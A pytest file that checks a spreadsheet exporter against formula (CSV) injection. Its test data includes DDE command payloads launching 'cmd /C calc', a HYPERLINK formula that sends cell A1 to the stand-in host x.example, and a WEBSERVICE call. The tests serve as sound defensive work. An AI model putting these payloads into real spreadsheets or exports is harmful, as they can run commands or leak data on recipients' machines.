"""What people wrote never becomes a formula in an export, and comes back from it as it was."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from xuncha.base.sheets_in import read_book
from xuncha.base.sheets_out import Column, Sheet, write_book
from xuncha.base.words import Sentence, same

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1", "|calc", "=WEBSERVICE(\"http://x.example\")",
    "'=1+1", '"=1+1', "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip


def written(*texts: str) -> bytes:
    return write_book([Sheet("表", (Column("a", same("内容")),), [{"a": one} for one in texts])])


def parts(book: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return "\n".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))


def test_no_text_becomes_a_formula_a_link_or_a_query() -> None:
    whole = parts(written(*HOSTILE))
    assert [
        tag for tag in ("<f>", "<f ", "<hyperlink", "<ddeLink", "externalLink", "<connection") if tag in whole
    ] == []


@pytest.mark.parametrize("text", [one for one in HOSTILE if one[:1] not in "'\""])
def test_what_begins_like_a_formula_carries_the_mark_of_text(text: str) -> None:
    cell = openpyxl.load_workbook(io.BytesIO(written(text)))["表"]["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("text", ["水务局", "2024-03-05", "1,234.50", "（一）会议", "A=1", "5-3"])
def test_plain_text_carries_no_mark(text: str) -> None:
    assert openpyxl.load_workbook(io.BytesIO(written(text)))["表"]["A2"].quotePrefix is False


@pytest.mark.parametrize("text", HOSTILE)
def test_it_comes_back_as_it_was(text: str) -> None:
    read = read_book(written(text), "a.xlsx").sheets[0].rows[1][0]
    assert read == text.strip()


@given(st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf", "Co", "Cn")), min_size=1, max_size=40))
def test_any_text_comes_back_as_it_was(text: str) -> None:
    rows = read_book(written("首行", text), "a.xlsx").sheets[0].rows
    assert (rows[2][0] if len(rows) > 2 else None) == (text.strip() or None)


def test_headings_notes_and_sheet_names_are_text_as_well() -> None:
    column = Column("a", Sentence("=1+1", "=1+1"), note="=1+1", choices=("=1+1", "乙"))
    book = write_book([Sheet("=1+1", (column,), [{"a": "甲"}], notes=("=1+1",))], stamp="=1+1")
    assert "<f>" not in parts(book)
    sheet = openpyxl.load_workbook(io.BytesIO(book))["=1+1"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
